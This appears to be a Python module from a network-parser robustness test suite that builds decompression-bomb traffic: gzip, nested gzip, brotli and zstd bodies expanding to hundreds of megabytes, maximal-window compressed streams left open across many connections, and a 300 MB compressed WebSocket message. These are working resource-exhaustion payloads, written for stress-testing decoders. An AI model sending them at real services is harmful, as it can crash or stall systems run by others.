"""Bodies, header tables and messages that stand for far more than they are."""

from __future__ import annotations

import functools
import struct
import zlib
from typing import TYPE_CHECKING

import brotli
import zstandard

from hostility.transport import REQUEST
from hostility.wire import Tcp

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

_MEGABYTE = bytes(1 << 20)


def _bodies(coding: bytes, body: bytes, count: int) -> Iterator[bytes]:
    for number in range(count):
        tcp = Tcp(1024 + number)
        yield from tcp.opened()
        yield from tcp.sent(0, REQUEST)
        head = b"HTTP/1.1 200 OK\r\nContent-Encoding: %s\r\nContent-Length: %d\r\n\r\n"
        yield from tcp.sent(1, head % (coding, len(body)))
        yield from tcp.sent(1, body)


@functools.cache
def _gzip(megabytes: int) -> bytes:
    packer = zlib.compressobj(9, wbits=31)
    return b"".join([*(packer.compress(_MEGABYTE) for _ in range(megabytes)), packer.flush()])


@functools.cache
def _brotli(megabytes: int) -> bytes:
    packer = brotli.Compressor(quality=1)
    return b"".join([*(packer.process(_MEGABYTE) for _ in range(megabytes)), packer.finish()])


@functools.cache
def _zstd(megabytes: int) -> bytes:
    packer = zstandard.ZstdCompressor(3).compressobj()
    return b"".join([*(packer.compress(_MEGABYTE) for _ in range(megabytes)), packer.flush()])


def gzip_bombs(count: int) -> Iterator[bytes]:
    """300 MB of zeros in 300 KB."""
    yield from _bodies(b"gzip", _gzip(300), count)


def gzip_in_gzip(count: int) -> Iterator[bytes]:
    """1.3 GB of zeros in a few KB."""
    outer = zlib.compressobj(9, wbits=31)
    yield from _bodies(b"gzip, gzip", outer.compress(_gzip(1300)) + outer.flush(), count)


def brotli_bombs(count: int) -> Iterator[bytes]:
    """300 MB of zeros."""
    yield from _bodies(b"br", _brotli(300), count)


def zstd_bombs(count: int) -> Iterator[bytes]:
    """300 MB of zeros."""
    yield from _bodies(b"zstd", _zstd(300), count)


def zstd_windows(count: int) -> Iterator[bytes]:
    """Frames that ask for the largest window (RFC 8878 section 3.1.1.1.2), and stay open."""
    yield from _bodies(b"zstd", b"\x28\xb5\x2f\xfd\0\x88" + b"\2\0\0" * 100, count)


def brotli_windows(count: int) -> Iterator[bytes]:
    """Streams with the largest window, begun on many connections and never ended."""
    packer = brotli.Compressor(quality=5, lgwin=24)
    yield from _bodies(b"br", packer.process(bytes(range(256)) * 40) + packer.flush(), count)


def websocket_bombs(count: int) -> Iterator[bytes]:
    """Compressed messages (RFC 7692) of 300 MB."""
    packer = zlib.compressobj(9, wbits=-15)
    data = b"".join(packer.compress(_MEGABYTE) for _ in range(300)) + packer.flush(zlib.Z_SYNC_FLUSH)
    message = b"\xc2\x7f" + struct.pack("!Q", len(data) - 4) + data[:-4]
    extension = (
        b"Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Extensions: permessage-deflate\r\n\r\n"
    )
    for number in range(count):
        tcp = Tcp(1024 + number)
        yield from tcp.opened()
        yield from tcp.sent(0, b"GET /ws HTTP/1.1\r\nHost: a\r\nSec-WebSocket-Key: x\r\n" + extension)
        yield from tcp.sent(1, b"HTTP/1.1 101 x\r\n" + extension)
        yield from tcp.sent(1, message)


BOMBS: tuple[Callable[[int], Iterator[bytes]], ...] = (
    gzip_bombs,
    gzip_in_gzip,
    brotli_bombs,
    zstd_bombs,
    zstd_windows,
    brotli_windows,
    websocket_bombs,
)
